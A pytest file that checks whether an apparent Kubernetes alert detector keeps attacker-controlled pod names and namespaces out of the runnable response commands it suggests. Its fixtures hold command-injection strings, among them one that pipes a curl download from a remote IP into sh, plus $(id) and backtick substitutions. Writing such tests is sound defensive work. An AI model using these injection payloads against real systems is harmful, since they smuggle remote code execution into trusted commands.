"""Nothing an attacker writes becomes a command (issue 10, finding 4): the
pod name and namespace come from labels a workload can influence; the
response commands in an alert must never carry them runnable."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from tests.support.views import T0, config, container, detector, scenario

DET = T0 + 600.0

HOSTILE = "x; curl http://198.18.0.1/p | sh; #"


def _commands(a: dict[str, Any]) -> list[str]:
    return [c for cmds in a["sluice"]["response"].values() if isinstance(cmds, list) for c in cmds]


@pytest.mark.parametrize(
    "labels",
    [
        {"io.kubernetes.pod.name": HOSTILE, "io.kubernetes.pod.namespace": "prod"},
        {"io.kubernetes.pod.name": "app-1", "io.kubernetes.pod.namespace": HOSTILE},
        {"io.kubernetes.pod.name": "app-1$(id)", "io.kubernetes.pod.namespace": "prod`id`"},
    ],
)
def test_a_hostile_pod_name_never_comes_out_runnable(tmp_path: Path, labels: dict[str, str]) -> None:
    pod = container("k8s_evil", image="acme/app:1", labels=labels)
    a = detector(config(tmp_path)).run(*scenario("SL-EXF-004", pod, DET)[0])[0]
    cmds = _commands(a)
    assert cmds
    for c in cmds:
        code = c.split("  #", 1)[0]  # the trailing explanation is a comment
        assert "curl" not in code and "$(" not in code and "`" not in code, c
        for tok in shlex.split(code):
            assert ";" not in tok and "|" not in tok, c
    assert "not a valid Kubernetes name" in a["sluice"]["response"]["note"]


def test_valid_names_still_get_the_kubectl_command(tmp_path: Path) -> None:
    pod = container(
        "k8s_ok",
        labels={"io.kubernetes.pod.name": "app-5d8f7c9b6d-x7k2p", "io.kubernetes.pod.namespace": "prod"},
    )
    a = detector(config(tmp_path)).run(*scenario("SL-EXF-004", pod, DET)[0])[0]
    kubectl = [c for c in _commands(a) if c.startswith("kubectl")]
    assert kubectl and shlex.split(kubectl[0].split("  #")[0])[:6] == [
        "kubectl",
        "-n",
        "prod",
        "label",
        "pod",
        "app-5d8f7c9b6d-x7k2p",
    ]
